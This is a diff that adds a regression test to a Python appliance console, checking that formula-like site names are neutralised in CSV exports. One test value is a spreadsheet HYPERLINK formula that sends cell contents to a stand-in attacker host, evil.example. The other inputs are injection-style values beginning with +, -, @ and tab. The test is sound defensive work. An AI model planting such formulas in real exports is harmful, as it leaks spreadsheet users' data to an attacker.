@@ -226,3 +226,25 @@ def test_fleet_scale_picture_for_the_docs(console: Console) -> None:
                        env={**os.environ, "HOME": profile})
     assert shot.exists() and shot.stat().st_size > 30_000
     print(f"\nscreenshot: {shot}")
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(console: Console, tmp_path: Path) -> None:
+    """Issue 15: a site name like =HYPERLINK(...) went into the CSV unchanged (CSV/formula injection)."""
+    import csv  # noqa: PLC0415
+
+    from appliance.console.rollout import spreadsheet_safe  # noqa: PLC0415
+
+    console.ok("init", "--broker-url", "mqtts://broker.example:8883")
+    names = {"desa-a": '=HYPERLINK("http://evil.example/?"&A1,"Klik")', "desa-b": "+62 811 000", "desa-c": "-1+1",
+             "desa-d": "@SUM(A1:A9)", "desa-e": "Desa = Biasa"}
+    for site_id, name in names.items():
+        console.ok("sites", "add", site_id, f"--name={name}", "--kind", "desa")
+    out = tmp_path / "report.csv"
+    console.ok("rollout", "--as-of", AS_OF, "--csv", str(out))
+    rows = {row["site"]: row for row in csv.DictReader(out.read_text().splitlines())}
+    assert {site_id: rows[site_id]["name"] for site_id in names} == {
+        "desa-a": "'" + names["desa-a"], "desa-b": "'+62 811 000", "desa-c": "'-1+1", "desa-d": "'@SUM(A1:A9)",
+        "desa-e": "Desa = Biasa"}
+    assert rows["kalibaru"]["name"] == "Kecamatan Kalibaru" and rows["kalibaru"]["distance_km"] == "60.0"
+    # Tab and carriage return cannot reach a name any more (refused on the way in), but are neutralised too.
+    assert [spreadsheet_safe(text) for text in ("\t=1", "\r=1", "ok", 5, -1.5)] == ["'\t=1", "'\r=1", "ok", 5, -1.5]
